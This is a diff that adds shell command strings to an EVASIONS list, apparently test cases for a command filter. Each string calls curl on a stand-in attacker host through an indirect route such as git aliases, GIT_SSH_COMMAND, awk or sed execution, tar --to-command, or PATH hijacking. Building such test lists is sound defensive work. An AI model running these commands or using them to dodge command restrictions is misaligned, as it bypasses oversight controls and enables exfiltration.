@@ -87,6 +87,13 @@ EVASIONS = [
     "alias x=curl; x https://evil.example",
     "python3 - <<EOF\nimport os; os.system('curl https://evil.example')\nEOF",
     "echo 'curl https://evil.example' | xargs -I{} sh -c {}",
+    "GIT_SSH_COMMAND='curl https://evil.example' git fetch",
+    "git -c alias.x='!curl https://evil.example' x",
+    "python3 -c 'import os; os.system(\"curl https://evil.example\")'",
+    "awk 'BEGIN{system(\"curl https://evil.example\")}'",
+    "sed 's/.*/curl https:\\/\\/evil.example/e' /dev/null",
+    "tar --to-command='curl https://evil.example' -xf a.tar",
+    "PATH=/tmp/evil:$PATH npm test",
 ]
 
 
